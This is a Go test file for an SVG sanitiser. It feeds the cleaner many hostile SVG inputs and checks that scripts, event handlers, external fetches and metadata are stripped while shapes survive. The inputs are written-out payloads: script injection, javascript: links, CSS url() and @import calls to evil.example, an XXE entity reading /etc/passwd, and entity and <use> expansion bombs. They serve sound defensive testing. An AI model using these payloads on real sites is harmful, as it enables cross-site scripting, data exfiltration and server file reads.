package media

import (
	"bytes"
	"encoding/base64"
	"encoding/xml"
	"fmt"
	"image/jpeg"
	"regexp"
	"strings"
	"testing"

	"handbill/generator/diag"
)

const svgHead = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" viewBox="0 0 40 20">`

// harmless is the oracle, written apart from the cleaner: it reads the output
// as a browser would and gives what could run, move or be fetched; "" for
// nothing.
func harmless(out []byte) string {
	dec := xml.NewDecoder(bytes.NewReader(out))
	reaches := regexp.MustCompile(`(?i)(https?:|ftp:|//|javascript|vbscript|data:|@import|expression|url\(\s*['"]?[^#'"\s]|\\|image-set|src\()`)
	for {
		t, err := dec.Token()
		if t == nil {
			return ""
		}
		if err != nil {
			return err.Error()
		}
		switch t := t.(type) {
		case xml.StartElement:
			if t.Name.Space != svgSpace {
				return "a foreign element " + t.Name.Local
			}
			switch strings.ToLower(t.Name.Local) {
			case "script", "foreignobject", "animate", "set", "animatetransform", "animatemotion", "handler", "listener", "iframe", "a", "feimage", "audio", "video", "metadata", "font", "mpath", "discard":
				return "<" + t.Name.Local + ">"
			}
			for _, a := range t.Attr {
				if a.Name.Space == "xmlns" || a.Name.Local == "xmlns" {
					continue
				}
				if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") {
					return a.Name.Local
				}
				if a.Name.Local == "href" && (strings.HasPrefix(a.Value, "#") || t.Name.Local == "image" && regexp.MustCompile(`^data:image/(png|jpeg);base64,[A-Za-z0-9+/=]+$`).MatchString(a.Value)) {
					continue
				}
				if a.Name.Local != "id" && a.Name.Local != "class" && reaches.MatchString(a.Value) {
					return a.Name.Local + "=" + a.Value
				}
			}
		case xml.CharData:
			if reaches.Match(t) {
				return "the text " + string(t)
			}
		case xml.Comment, xml.Directive, xml.ProcInst:
			return fmt.Sprintf("%T", t)
		}
	}
}

func TestDrawingCannotRunMoveOrFetch(t *testing.T) {
	const image = `<image width="9" height="9" href=%q/>`
	for name, body := range map[string]string{
		"script":              `<script>alert("SECRETPLACE")</script>`,
		"script href":         `<script href="https://evil.example/SECRETPLACE.js"/>`,
		"script xlink":        `<script xlink:href="data:text/javascript,alert(1)"/>`,
		"script in defs":      `<defs><g><script type="text/ecmascript">SECRETPLACE</script></g></defs>`,
		"html script":         `<x:script xmlns:x="http://www.w3.org/1999/xhtml">SECRETPLACE</x:script>`,
		"cdata script":        `<script><![CDATA[SECRETPLACE]]></script>`,
		"onload":              `<g onload="SECRETPLACE"><path d="M0 0"/></g>`,
		"onClick":             `<path onClick="SECRETPLACE" d="M0 0"/>`,
		"onbegin":             `<animate onbegin="SECRETPLACE" attributeName="x" dur="1s"/>`,
		"ev handler":          `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="click" handler="#SECRETPLACE"/>`,
		"foreignObject":       `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/SECRETPLACE"/></body></foreignObject>`,
		"animate href":        `<a><animate attributeName="href" to="javascript:SECRETPLACE"/><text>x</text></a>`,
		"set href":            `<use id="u" href="#x"><set attributeName="href" to="https://evil.example/SECRETPLACE"/></use>`,
		"link":                `<a href="javascript:alert('SECRETPLACE')"><text>kept</text></a>`,
		"link spaced":         `<a xlink:href=" java&#9;script:SECRETPLACE"><text>kept</text></a>`,
		"image":               fmt.Sprintf(image, "https://evil.example/SECRETPLACE.png"),
		"image relative":      fmt.Sprintf(image, "SECRETPLACE.png"),
		"image svg data":      fmt.Sprintf(image, "data:image/svg+xml;base64,"+base64.StdEncoding.EncodeToString([]byte("<svg onload=SECRETPLACE>"))),
		"image html data":     fmt.Sprintf(image, "data:text/html,SECRETPLACE"),
		"image false png":     fmt.Sprintf(image, "data:image/png;base64,U0VDUkVUUExBQ0U="),
		"image fragment":      fmt.Sprintf(image, "#SECRETPLACE"),
		"use outside":         `<use href="https://evil.example/a.svg#SECRETPLACE"/>`,
		"use data":            `<use xlink:href="data:image/svg+xml,SECRETPLACE#x"/>`,
		"feImage":             `<filter id="f"><feImage href="https://evil.example/SECRETPLACE"/></filter>`,
		"fill url":            `<path fill="url(https://evil.example/SECRETPLACE)" d="M0 0"/>`,
		"fill url quoted":     `<path fill="url( 'https://evil.example/SECRETPLACE#a' )" d="M0 0"/>`,
		"fill url escaped":    `<path fill="u\72l(https://evil.example/SECRETPLACE)" d="M0 0"/>`,
		"fill second url":     `<path fill="url(#a) url(//evil.example/SECRETPLACE)" d="M0 0"/>`,
		"mask image":          `<path style="mask-image:url(https://evil.example/SECRETPLACE)" d="M0 0"/>`,
		"style url":           `<path style="fill:red;fill:url(//evil.example/SECRETPLACE)" d="M0 0"/>`,
		"style import":        `<style>@import url(https://evil.example/SECRETPLACE.css);.a{fill:red}</style>`,
		"style import string": `<style>@import "//evil.example/SECRETPLACE.css";</style>`,
		"style comment":       `<style>/* SECRETPLACE */.a{fill:red}/* SECRETPLACE</style>`,
		"style split import":  `<style>@im/**/port "//evil.example/SECRETPLACE";</style>`,
		"style font":          `<style>@font-face{font-family:x;src:url(https://evil.example/SECRETPLACE.woff)}</style>`,
		"style image-set":     `<style>.a{fill:image-set("//evil.example/SECRETPLACE" 1x)}</style>`,
		"style escape":        `<style>.a{f\69ll:\75rl(//evil.example/SECRETPLACE)}</style>`,
		"style selector leak": `<style>[id^="a"]{background:url(//evil.example/SECRETPLACE)}</style>`,
		"style media":         `<style>@media screen{@import "//evil.example/SECRETPLACE";.a{fill:red}}</style>`,
		"style media url":     `<style>@media url(//evil.example/SECRETPLACE){.a{fill:red}}</style>`,
		"style keyframes":     `<style>@keyframes a{from{fill:red}to{fill:url(//evil.example/SECRETPLACE)}}</style>`,
		"style unended":       `<style>.a{fill:red;} .b{fill:url(//evil.example/SECRETPLACE</style>`,
		"style nested":        `<style>.a{fill:red;&amp; .b{fill:url(//evil.example/SECRETPLACE)}}</style>`,
		"style quote":         `<style>.a{font-family:"x} @import "//evil.example/SECRETPLACE";</style>`,
		"style cdata":         `<style><![CDATA[@import "//evil.example/SECRETPLACE";]]></style>`,
		"style child":         `<style>.a{fill:red}<g onload="SECRETPLACE"/></style>`,
		"base":                `<g xml:base="https://evil.example/SECRETPLACE"><use href="#a"/></g>`,
		"metadata":            `<metadata><rdf:RDF>SECRETPLACE</rdf:RDF></metadata>`,
		"editor":              `<sodipodi:namedview inkscape:export-filename="C:\Users\SECRETPLACE"/><g inkscape:label="SECRETPLACE" sodipodi:docname="SECRETPLACE"/>`,
		"data attribute":      `<path data-name="SECRETPLACE" d="M0 0"/>`,
		"comment":             `<!-- SECRETPLACE --><path d="M0 0"/>`,
		"instruction":         `<?xml-stylesheet href="https://evil.example/SECRETPLACE.css"?>`,
		"entity escaped":      `<path fill="&#117;rl(https://evil.example/SECRETPLACE)" d="M0 0"/>`,
		"cursor":              `<path cursor="url(//evil.example/SECRETPLACE)" d="M0 0"/>`,
		"html namespace":      `<g xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/SECRETPLACE"/></g>`,
		"loose text":          `SECRETPLACE<g>SECRETPLACE</g>`,
		"color profile":       `<color-profile xlink:href="https://evil.example/SECRETPLACE.icc"/>`,
		"iframe":              `<iframe src="https://evil.example/SECRETPLACE"/>`,
		"handler":             `<handler type="application/ecmascript">SECRETPLACE</handler>`,
		"tref":                `<text><tref xlink:href="https://evil.example/SECRETPLACE#x"/></text>`,
	} {
		t.Run(name, func(t *testing.T) {
			f := prepare(t, "a.svg", []byte(svgHead+body+`<circle r="3" cx="5" cy="5"/></svg>`))
			if bad := harmless(f.Data); bad != "" {
				t.Errorf("%s came through:\n%s", bad, f.Data)
			}
			if !bytes.Contains(f.Data, []byte("<circle")) {
				t.Errorf("the circle behind it is gone:\n%s", f.Data)
			}
			if strings.Contains(body, "kept") && !bytes.Contains(f.Data, []byte("kept")) {
				t.Errorf("the words inside a link are gone:\n%s", f.Data)
			}
		})
	}
}

func TestDrawingThatDeclaresEntitiesIsRefused(t *testing.T) {
	for _, src := range []string{
		`<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>` + svgHead + `<text>&b;</text></svg>`,
		`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + svgHead + `<text>&x;</text></svg>`,
		svgHead + `<text>&unknown;</text></svg>`,
		svgHead + `<g></svg>`,
		svgHead,
		svgHead + `</svg>` + svgHead + `</svg>`,
		`<html><svg xmlns="http://www.w3.org/2000/svg"/></html>`,
		svgHead + strings.Repeat("<g>", 5000) + strings.Repeat("</g>", 5000) + `</svg>`,
		svgHead + `<metadata>` + strings.Repeat("<g>", 5000) + strings.Repeat("</g>", 5000) + `</metadata></svg>`,
	} {
		refused(t, "a.svg", []byte(src))
	}
}

// A few lines of nested <use> can ask a browser for millions of shapes.
func TestDrawingThatMultipliesItselfIsRefused(t *testing.T) {
	var b strings.Builder
	b.WriteString(svgHead + `<defs><g id="a0"><path d="M0 0h1"/></g>`)
	for i := 1; i < 12; i++ {
		fmt.Fprintf(&b, `<g id="a%d">%s</g>`, i, strings.Repeat(fmt.Sprintf(`<use href="#a%d"/>`, i-1), 10))
	}
	b.WriteString(`</defs><use href="#a11"/></svg>`)
	if d := refused(t, "a.svg", []byte(b.String())); d.Code != "media-huge" {
		t.Errorf("got %+v", d)
	}
	prepare(t, "a.svg", []byte(svgHead+`<g id="a"><use href="#a"/></g></svg>`))
}

func TestLossesAreToldWithTheirLine(t *testing.T) {
	_, list := Prepare("a.svg", []byte(svgHead+"\n<path d='M0 0'/>\n<script>x</script><foreignObject/>\n</svg>"), Options{})
	if len(list) != 1 || list[0].Severity != diag.Warning || list[0].Line != 3 || !strings.Contains(list[0].Message, "<script>, <foreignObject>") {
		t.Errorf("got %+v", list)
	}
	_, list = Prepare("a.svg", []byte(svgHead+`<metadata>x</metadata><!-- x --><g inkscape:label="x"/></svg>`), Options{})
	if len(list) != 0 {
		t.Errorf("what nobody misses is told: %v", list)
	}
}

func TestDrawingKeepsWhatDraws(t *testing.T) {
	for src, want := range map[string]string{
		`<path style="fill:#f00; stroke-width : 2px;-inkscape-x:1" fill="blue" class="x" d="M0,0 L1,1"/>`: `<path fill="#f00" d="M0,0 L1,1" stroke-width="2px"/>`,
		`<style>.st0 { fill : red }</style><path class="st0" style="stroke:blue"/>`:                       `<style>.st0{fill:red}</style><path class="st0" style="stroke:blue"/>`,
		`<style>@media (prefers-color-scheme: dark) { .a , #b>c {fill:#fff;opacity:.5} }</style>`:         `<style>@media (prefers-color-scheme: dark){.a , #b&gt;c{fill:#fff;opacity:.5}}</style>`,
		`<linearGradient id="g"><stop offset="0"/></linearGradient><path fill="url(#g)"/>`:                `<linearGradient id="g"><stop offset="0"/></linearGradient><path fill="url(#g)"/>`,
		`<text x="1" xml:lang="ar">نص <tspan>a &lt; b &amp; c</tspan></text>`:                             `<text x="1" xml:lang="ar">نص <tspan>a &lt; b &amp; c</tspan></text>`,
		`<title>A tap &amp; a hand</title> <desc>x</desc>`:                                                `<title>A tap &amp; a hand</title><desc>x</desc>`,
		`<switch><foreignObject/><text>fallback</text></switch>`:                                          `<switch><text>fallback</text></switch>`,
		`<path transform="translate(1 2) rotate(45)" clip-path="url('#c')"/>`:                             `<path transform="translate(1 2) rotate(45)" clip-path="url('#c')"/>`,
		`<path style="mix-blend-mode:multiply"/>`:                                                         `<path style="mix-blend-mode:multiply"/>`,
		`<path aria-label='say "hi"' role="img"/>`:                                                        `<path aria-label="say &quot;hi&quot;" role="img"/>`,
	} {
		f := prepare(t, "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 2">`+src+`</svg>`))
		if want = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 2">` + want + `</svg>`; string(f.Data) != want {
			t.Errorf("got\n%s\nwant\n%s", f.Data, want)
		}
	}
	f := prepare(t, "a.svg", []byte(svgHead+`<use xlink:href="#a"/></svg>`))
	if !bytes.Contains(f.Data, []byte(`xmlns:xlink="http://www.w3.org/1999/xlink"`)) || !bytes.Contains(f.Data, []byte(`<use xlink:href="#a"/>`)) {
		t.Errorf("got %s", f.Data)
	}
}

func TestPictureInsideADrawingIsCleaned(t *testing.T) {
	inside := base64.StdEncoding.EncodeToString(gossip(t, corners(64, 48), 6))
	f := prepare(t, "a.svg", []byte(svgHead+`<image href="data:image/jpeg;base64,`+inside[:40]+"\n"+inside[40:]+`"/></svg>`))
	found := regexp.MustCompile(`xlink:href="data:image/jpeg;base64,([^"]+)"`).FindSubmatch(f.Data)
	if found == nil {
		t.Fatalf("the picture is gone: %.300s", f.Data)
	}
	raw, _ := base64.StdEncoding.DecodeString(string(found[1]))
	m, err := jpeg.Decode(bytes.NewReader(raw))
	if err != nil || m.Bounds().Dx() != 48 || bytes.Contains(raw, []byte(secret)) {
		t.Errorf("got %v, %v", m.Bounds(), err)
	}
}

func TestDrawingHasASize(t *testing.T) {
	for attrs, want := range map[string][2]int{
		`viewBox="0 0 640 360"`:                           {640, 360},
		`viewBox="0,0,640,360" width="100%"`:              {640, 360},
		`viewBox="-5 -5 20 10" width="100"`:               {100, 50},
		`viewBox="0 0 20 10" height="100px"`:              {200, 100},
		`width="210mm" height="297mm"`:                    {794, 1123},
		`width="72pt" height="1in" viewBox="0 0 1 1"`:     {96, 96},
		`width="-3" height="nan" viewBox="0 0 7 8"`:       {7, 8},
		`width="1e99" height="5" viewBox="0 0 10 5"`:      {10, 5},
		`viewBox="0 0 0.2 0.1"`:                           {1, 1},
		`viewBox="0 0 1 x" width="12.6" height="4.4"`:     {13, 4},
		`width="5em" height="2em" viewBox="0 0 1e8 1e8"`:  {100000, 100000},
		`width="50" height="50" viewBox="0 0 200000 100"`: {50, 50},
	} {
		f := prepare(t, "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" `+attrs+`/>`))
		if f.Width != want[0] || f.Height != want[1] {
			t.Errorf("%s is %d × %d, want %v", attrs, f.Width, f.Height, want)
		}
		if !bytes.Contains(f.Data, []byte(" viewBox=")) {
			t.Errorf("%s cannot be scaled: %s", attrs, f.Data)
		}
	}
	if _, list := Prepare("a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`), Options{}); len(list) != 1 || list[0].Code != "media-size" {
		t.Errorf("got %v", list)
	}
}

func TestOlderEncodingIsRead(t *testing.T) {
	f := prepare(t, "a.svg", []byte("<?xml version='1.0' encoding='ISO-8859-1'?>"+svgHead+"<text>caf\xe9</text></svg>"))
	if !bytes.Contains(f.Data, []byte("café")) {
		t.Errorf("got %s", f.Data)
	}
}

func TestCleaningADrawingTwiceChangesNothing(t *testing.T) {
	f := prepare(t, "a.svg", []byte(svgHead+`<style>.a{fill:red}</style><g style="fill:url(#a);isolation:isolate"><text> a  b </text></g></svg>`))
	again := prepare(t, "a.svg", f.Data)
	if !bytes.Equal(f.Data, again.Data) {
		t.Errorf("got\n%s\nthen\n%s", f.Data, again.Data)
	}
}
